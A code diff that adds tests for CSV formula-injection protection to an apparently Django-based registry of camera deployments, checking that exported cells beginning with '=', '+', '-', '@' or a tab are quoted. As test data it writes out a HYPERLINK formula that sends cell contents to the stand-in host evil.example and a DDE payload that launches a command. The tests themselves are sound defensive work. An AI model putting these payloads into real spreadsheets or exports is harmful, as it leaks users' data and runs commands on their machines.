@@ -50,3 +50,62 @@ def test_the_full_dump_contains_everything_published(db, tmp_path):
     assert len(data["deployments"]) == 26
     assert len(data["technologies"]) == 14
     assert {c["commune"] for c in data["camera_counts"]} == {"06088", "75056"}
+
+
+# --- formula injection (OWASP "CSV injection") -----------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")'
+CALC = "+cmd|' /C calc'!A0"
+
+
+def _csv(text):
+    """The rows of an export, its licence line left out."""
+    lines = text.splitlines()
+    assert lines[0].startswith("# ")
+    return list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
+
+
+def test_values_typed_into_the_deployment_form_cannot_become_formulas(contributor_client):
+    from django.urls import reverse
+
+    from tests.registry.test_pages import _form_post
+
+    response = contributor_client.post(
+        reverse("deployment-create"),
+        _form_post(
+            title=HYPERLINK,
+            vendors="@SUM(1+1), -2+3",
+            **{
+                "fundings-0-funder": "\t=1+1",
+                "fundings-0-amount_eur": "1500",
+                "citations-0-url": "",
+                "citations-0-source_title": CALC,
+            },
+        ),
+    )
+    assert response.status_code == 302, response.content.decode()[:3000]
+    rows = _csv(_body(contributor_client.get("/exports/dispositifs.csv?department=04")))
+    row = next(r for r in rows if "HYPERLINK" in r["title"])
+    # Shown as typed, after a single quote that keeps the spreadsheet from running it.
+    assert row["title"] == "'" + HYPERLINK
+    assert row["vendors"] in ("'-2+3; @SUM(1+1)", "'@SUM(1+1); -2+3")
+    assert row["funders"].startswith("'") and "=1+1" in row["funders"]
+    assert row["sources"] == "'" + CALC
+    # A real number stays a number; plain text is untouched.
+    assert row["amount_eur"] == "1500.00"
+    assert row["communes"] == "Forcalquier" and row["status"] == "deployed"
+    for cell in row.values():
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+
+
+def test_the_cell_helper_quotes_every_formula_start_and_keeps_numbers():
+    from decimal import Decimal
+
+    from contrechamp.lib.spreadsheet import safe_cell
+
+    for hostile in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1"):
+        assert safe_cell(hostile) == "'" + hostile
+    # Numbers are numbers: a spreadsheet reads -12.5 as a value, not a formula.
+    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3
+    assert safe_cell("Nice") == "Nice" and safe_cell("") == "" and safe_cell(None) is None
+    assert safe_cell("a=b") == "a=b"  # only the first character counts
